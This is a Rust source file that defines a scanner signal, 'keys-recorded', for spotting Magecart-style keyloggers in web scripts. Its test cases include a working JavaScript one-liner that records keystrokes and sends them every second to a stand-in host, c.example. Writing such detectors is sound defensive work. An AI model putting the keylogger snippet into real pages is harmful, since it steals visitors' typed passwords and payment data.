//! `keys-recorded`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "keys-recorded",
    description: "The script reads pressed keys and sends data out.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::KeyEvent]),
        one(&[Atom::KeyRead]),
        one(&[Atom::AddressFromData, Atom::Beacon, Atom::Request, Atom::Socket]),
    ],
    within: 160,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.onkeypress=function(e){k+=String.fromCharCode(e.which)};setInterval(function(){new Image().src='//c.example/?k='+k},1e3)",
        ],
        without: &["document.onkeydown=function(e){if(e.keyCode==27)close()}"],
    },
};
